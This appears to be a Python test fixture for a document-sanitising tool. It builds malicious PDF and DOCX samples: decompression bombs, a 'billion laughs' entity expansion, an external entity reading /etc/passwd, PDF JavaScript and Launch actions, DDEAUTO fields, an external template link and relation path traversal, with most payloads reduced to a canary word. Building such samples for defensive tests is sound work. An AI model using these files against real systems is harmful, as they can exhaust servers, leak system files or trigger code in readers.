"""PDF and Word files that run, call, hide, burst or loop."""

import zlib
from collections.abc import Callable

import pikepdf
from pikepdf import Array, Dictionary, Encryption, Name, String

from tests.vault.cleaning.canary import CANARY
from tests.vault.cleaning.good_documents import BODY, SPACES, docx_parts, pdf, pdf_file, relations, saved, zipped
from tests.vault.cleaning.good_pictures import jpeg

Build = Callable[[], bytes]
WORD = CANARY.decode()
LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY a "lol">'
    + "".join(f'<!ENTITY {n} "{f"&{o};" * 10}">' for o, n in zip("abcdefghi", "bcdefghij", strict=True))
    + "]><x>&j;</x>"
)
OUTSIDE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'


def packed_zeros(megabytes: int, before: bytes = b"") -> bytes:
    """Zeros as deflate packs them, quickly made: one block that repeats."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = packer.compress(before) + packer.flush(zlib.Z_FULL_FLUSH)
    block = packer.compress(bytes(1_000_000)) + packer.flush(zlib.Z_FULL_FLUSH)
    total = zlib.adler32(before)
    for _time in range(megabytes):
        total = zlib.adler32(bytes(1_000_000), total)
    return b"\x78\xda" + head + block * megabytes + b"\x03\x00" + total.to_bytes(4, "big")


def flate_bomb(times: int = 1, megabytes: int = 700) -> bytes:
    made = pdf_file(1)
    content = packed_zeros(megabytes)
    for _time in range(times - 1):
        content = zlib.compress(content, 9)
    stream = made.pages[0].obj.Contents
    kept = Name.FlateDecode if times == 1 else Array([Name.FlateDecode] * times)
    stream.write(content, filter=kept)
    return saved(made, stream_decode_level=pikepdf.StreamDecodeLevel.none)


def object_bomb(megabytes: int) -> bytes:
    """A PDF whose page tree stands in a stream of objects that unpacks to that much."""
    content = b"2 0 <</Type /Pages /Kids [3 0 R] /Count 1>> "
    packed = packed_zeros(megabytes, content)
    stream = b"<</Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d>> stream\n%s\nendstream"
    objects = {
        1: b"<</Type /Catalog /Pages 2 0 R>>",
        3: b"<</Type /Page /Parent 2 0 R /MediaBox [0 0 9 9]>>",
        4: stream % (len(packed), packed),
    }
    body, rows = b"%PDF-1.5\n", [b"\0" * 7, b"", b"\2\0\0\0\4\0\0", b"", b"", b""]
    for number, text in objects.items():
        rows[number] = b"\1" + len(body).to_bytes(4, "big") + b"\0\0"
        body += b"%d 0 obj %s endobj\n" % (number, text)
    start, table = len(body), b"".join(rows[:5])
    head = b"5 0 obj <</Type /XRef /Size 5 /W [1 4 2] /Root 1 0 R /Length %d>> stream\n" % len(table)
    return body + head + table + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF\n" % start


def reference_bomb() -> bytes:
    """A table of references that unpacks to 600 MB."""
    packed = packed_zeros(600)
    head = b"%PDF-1.5\n5 0 obj <</Type /XRef /Size 99999999 /W [1 4 1] /Root 1 0 R /Filter /FlateDecode /Length "
    return head + b"%d>> stream\n%s\nendstream endobj\nstartxref\n9\n%%%%EOF\n" % (len(packed), packed)


def with_page(change: Callable[[pikepdf.Pdf, pikepdf.Object], None]) -> Build:
    def build() -> bytes:
        made = pdf_file(1)
        change(made, made.pages[0].obj)
        return saved(made, compress_streams=False)

    return build


def _loop(made: pikepdf.Pdf, page: pikepdf.Object) -> None:
    page.Resources.Loop = made.make_indirect(Dictionary())
    page.Resources.Loop.Again = page.Resources.Loop


def _deep(_made: pikepdf.Pdf, page: pikepdf.Object) -> None:
    nested = Array([])
    for _level in range(400):
        nested = Array([nested])
    page.Resources.Deep = nested


def _behind_stream(_made: pikepdf.Pdf, page: pikepdf.Object) -> None:
    page.Contents.write(zlib.compress(b"q Q") + CANARY, filter=Name.FlateDecode)


def _packed_picture(_made: pikepdf.Pdf, page: pikepdf.Object) -> None:
    both = Array([Name.FlateDecode, Name.DCTDecode])
    page.Resources.XObject.Im0.write(zlib.compress(jpeg("exif")), filter=both)


def _picture_tail(_made: pikepdf.Pdf, page: pikepdf.Object) -> None:
    page.Resources.XObject.Im0.write(jpeg("exif") + CANARY, filter=Name.DCTDecode)


def _jpeg2000(_made: pikepdf.Pdf, page: pikepdf.Object) -> None:
    data = b"\0\0\0\x0cjP  \r\n\x87\n" + (len(CANARY) + 8).to_bytes(4, "big") + b"uuid" + CANARY
    page.Resources.XObject.Im0.write(data, filter=Name.JPXDecode)


def _elsewhere(_made: pikepdf.Pdf, page: pikepdf.Object) -> None:
    page.Contents.F = String(f"//{WORD}/share")


def _script(made: pikepdf.Pdf, _page: pikepdf.Object) -> None:
    made.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String(WORD))


def _attachment(made: pikepdf.Pdf, _page: pikepdf.Object) -> None:
    made.attachments["a.exe"] = b"MZ" + CANARY


def _page_action(_made: pikepdf.Pdf, page: pikepdf.Object) -> None:
    page.AA = Dictionary(O=Dictionary(S=Name.Launch, F=String(WORD)))


def _map_place(_made: pikepdf.Pdf, page: pikepdf.Object) -> None:
    page.VP = Array([Dictionary(Measure=Dictionary(GCS=String(WORD)))])
    page.Resources.XObject.Im0.Measure = Dictionary(GPTS=Array([4, 9]), Name=String(WORD))


def endless_tree() -> bytes:
    return (
        b"%PDF-1.4\n1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj\n2 0 obj <</Type /Pages /Kids [2 0 R 2 0 R] "
        b"/Count 999999999>> endobj\ntrailer <</Root 1 0 R /Size 3>>\nstartxref\n0\n%%EOF\n"
    )


def locked(user: str) -> bytes:
    return pdf(1, encryption=Encryption(owner=WORD, user=user))


def word(**more: str | bytes) -> Build:
    """A Word file with some parts put in the place of the good ones."""
    return lambda: zipped({**docx_parts(), **{name.replace("__", "/"): content for name, content in more.items()}})


def body(inside: str) -> Build:
    return lambda: zipped(docx_parts(f"<w:document {SPACES}><w:body>{inside}</w:body></w:document>"))


def swap(old: str, new: str) -> Build:
    return lambda: zipped({**docx_parts(), "word/_rels/document.xml.rels": relations().replace(old, new)})


def many_parts() -> bytes:
    return zipped({**docx_parts(), **{f"word/media/{number}.png": b"" for number in range(5000)}})


def lying_sizes() -> bytes:
    data = bytearray(zipped({**docx_parts(), "word/settings.xml": b" " * 9_000_000}))
    at = data.rindex(b"PK\x01\x02", 0, data.rindex(b"word/settings.xml"))
    data[at + 24 : at + 28] = (1000).to_bytes(4, "little")
    return bytes(data)


def locked_zip() -> bytes:
    data = bytearray(zipped(docx_parts()))
    data[data.index(b"PK\x01\x02") + 8] |= 1
    return bytes(data)


BURSTING: dict[str, Build] = {
    "pdf-bomb": flate_bomb,
    "pdf-bomb-objects": lambda: object_bomb(600),
    "pdf-bomb-references": reference_bomb,
    "pdf-bomb-twice": lambda: flate_bomb(2, 1500),
    "docx-bomb": word(**{"word/document.xml": b" " * 90_000_000}),
    "docx-bomb-unused": word(**{"word/media/x.png": bytes(120_000_000)}),
    "docx-bomb-picture": word(**{"word/media/two.png": bytes(18_000_000)}),
    "docx-many-parts": many_parts,
    "docx-lying-sizes": lying_sizes,
    "docx-laughs": word(**{"word/document.xml": LAUGHS}),
    "docx-laughs-in-relations": word(**{"word/_rels/document.xml.rels": LAUGHS}),
    "docx-outside-entity": word(**{"word/document.xml": OUTSIDE + BODY.replace("Added.", "&e;")}),
    "docx-deep": body("<w:p>" * 100_000),
}
"""None of these may come out as a file."""


def documents() -> dict[str, Build]:
    pages = {
        "loop": _loop, "deep": _deep, "behind-stream": _behind_stream, "packed-picture": _packed_picture,
        "picture-tail": _picture_tail, "jpeg-2000": _jpeg2000, "elsewhere": _elsewhere, "script": _script,
        "attachment": _attachment, "page-action": _page_action, "map-place": _map_place,
    }  # fmt: skip
    return {
        **BURSTING,
        **{f"pdf-{name}": with_page(change) for name, change in pages.items()},
        "pdf-locked": lambda: locked("secret"),
        "pdf-locked-for-changes": lambda: locked(""),
        "pdf-301-pages": lambda: pdf(301),
        "pdf-endless-tree": endless_tree,
        "pdf-linearized": lambda: pdf(3, linearize=True),
        "pdf-old-style": lambda: pdf(object_stream_mode=pikepdf.ObjectStreamMode.disable, compress_streams=False),
        "pdf-only-head": lambda: b"%PDF-1.7\n",
        "pdf-no-bomb-objects": lambda: object_bomb(1),
        "pdf-no-pages": lambda: saved(pikepdf.new()),
        "docx-locked": locked_zip,
        "docx-dde": body(f'<w:p><w:r><w:instrText>DDEAUTO c:\\\\{WORD} "x"</w:instrText></w:r></w:p>'),
        "docx-dde-in-pieces": body(f"<w:p><w:instrText>DD</w:instrText><w:instrText>E {WORD}</w:instrText></w:p>"),
        "docx-control": body(f'<w:p><w:r><w:control r:id="rId9" w:name="{WORD}"/></w:r></w:p>'),
        "docx-outside-template": swap('settings.xml"', f'http://{WORD}/a.dotm" TargetMode="External"'),
        "docx-outside-folder": swap("settings.xml", f"../../../../etc/{WORD}"),
        "docx-strange-picture": swap("media/two.png", "document.xml"),
        "docx-broken-xml": word(**{"word/document.xml": BODY[:300]}),
        "docx-broken-picture": word(**{"word/media/two.png": b"\x89PNG\r\n\x1a\n" + CANARY}),
        "docx-html-inside": word(**{"word/document.xml": f"<html>{WORD}</html>"}),
        "docx-empty-body": body(""),
        "docx-utf-16": word(**{"word/document.xml": BODY.encode("utf-16")}),
        "docx-utf-7": word(**{"word/document.xml": b'<?xml version="1.0" encoding="UTF-7"?><a>+ADw-</a>'}),
        "docx-program-before": lambda: b"MZ" + zipped(docx_parts()),
    }  # fmt: skip
